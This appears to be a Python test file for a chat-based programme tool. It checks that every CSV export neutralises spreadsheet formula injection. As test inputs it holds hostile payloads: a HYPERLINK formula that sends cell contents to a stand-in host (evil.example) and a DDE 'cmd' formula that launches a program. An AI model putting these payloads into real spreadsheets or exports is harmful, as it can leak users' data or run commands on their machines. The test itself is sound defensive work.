"""No CSV Digilog writes holds a formula: `bank export`, `mydata` and the report's tables,
with a participant named as an attacker would be and reflections that start like one."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import replace
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from handlers import report
from handlers.csv_cells import FORMULA_STARTS, PLAIN_NUMBER, neutralised, writer
from handlers.digilog import Digilog
from handlers.i18n import translator
from handlers.programme_file import Programme
from handlers.vocabulary import Actor, FileMessage
from storage.models import Role
from storage.unit import Store
from tests.chat import Chat
from tests.conftest import ROOT, make_cohort

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
# (A reflection's leading tab or carriage return is trimmed when it is saved; the
# property below covers those two.)
HOSTILE_TEXTS = ("=1+2", "+SUM(A1:A3)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)")
PEOPLE = (
    ("fia", "Fia Facilitator", "region-vasterbotten", Role.facilitator),
    ("anna", HOSTILE_NAME, "umea", Role.participant),
)


class HostileChat(Chat):
    """As Slack or Teams would report Anna: by the display name she chose."""

    def actor(self, user: str) -> Actor:
        actor = super().actor(user)
        return replace(actor, display_name=HOSTILE_NAME) if user == "anna" else actor


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)


def files_in(reply_outgoing: list[object]) -> list[FileMessage]:
    return [o.message for o in reply_outgoing if isinstance(o.message, FileMessage)]  # type: ignore[attr-defined]


async def test_no_export_cell_is_a_formula(
    store: Store, programme: Programme, digilog: Digilog
) -> None:
    cohort = await make_cohort(store, programme, people=PEOPLE)
    chat = HostileChat(digilog, cohort)
    await chat.say("fia", "theme start 1")
    for text in HOSTILE_TEXTS:
        await chat.post("anna", 1, text)
    await chat.say("anna", "reflect --private =PRIVAT()")

    written: dict[str, str] = {}
    for user, command in (("fia", "export csv"), ("anna", "mydata")):
        for file in files_in((await chat.say(user, command)).outgoing):
            if file.filename.endswith(".csv"):
                written[f"{command}: {file.filename}"] = file.content.decode("utf-8-sig")
            elif file.filename.endswith(".zip"):
                with zipfile.ZipFile(io.BytesIO(file.content)) as archive:
                    for name in archive.namelist():
                        if name.endswith(".csv"):
                            written[f"{command}: {name}"] = archive.read(name).decode("utf-8")
    # The report's tables, as `digilog report` writes them.
    async with store.transaction() as repos:
        found = await report.figures(repos, cohort, translator("en"))
    for name, content, _ in report.files(translator("en"), found):
        if isinstance(content, str):
            written[f"report: {name}"] = content
    assert any(c.startswith("export") for c in written), written.keys()
    assert any(c.startswith("mydata") for c in written), written.keys()
    assert any(c.startswith("report") for c in written), written.keys()
    every_cell = [cell for text in written.values() for cell in cells(text)]
    assert [c for c in every_cell if dangerous(c)] == []
    # Neutralised, not lost: the apostrophe in front, the rest as written.
    assert "'" + HOSTILE_NAME in every_cell
    for text in HOSTILE_TEXTS:
        assert "'" + text in every_cell, text


@given(st.text(max_size=30))
def test_a_neutralised_cell_never_starts_a_formula(value: str) -> None:
    out = io.StringIO()
    writer(out).writerow([value])
    (cell,) = cells(out.getvalue()) or [""]
    assert not dangerous(cell)
    assert cell in (value, "'" + value)
    assert neutralised(-3) == -3 and neutralised("-0.125") == "-0.125"


def test_every_csv_is_written_through_the_one_helper() -> None:
    for path in [*ROOT.glob("handlers/*.py"), *ROOT.glob("bot/**/*.py")]:
        if path.name != "csv_cells.py":
            source = path.read_text(encoding="utf-8")
            assert "csv.writer(" not in source and "DictWriter" not in source, Path(path).name
